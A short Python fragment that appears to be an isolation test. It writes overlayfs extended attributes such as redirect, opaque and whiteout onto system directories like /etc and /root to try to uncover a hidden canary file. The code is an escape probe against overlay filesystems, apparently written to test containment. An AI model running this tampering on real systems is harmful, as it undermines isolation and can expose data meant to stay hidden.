# Uncover what is hidden by writing the attributes that an overlay keeps its state in.
for prefix in ("user.overlay.", "trusted.overlay."):
    for at in ("/etc", "/root", "/home", "/srv", "/var/lib", "/tmp"):
        for name, value in (("redirect", os.environ["CANARY_DIR"].encode()), ("opaque", b"n"), ("metacopy", b""),
                            ("origin", b"\0" * 32), ("whiteout", b"")):
            try:
                os.setxattr(at, prefix + name, value)
            except OSError:
                pass
    for at in ("/etc", "/root", "/home", "/srv", "/tmp"):
        path = os.path.join(at, os.path.basename(os.environ["CANARY"]))
        if os.path.exists(path):
            reached(path)
    if os.path.exists(os.environ["CANARY"]):
        reached("the canary")
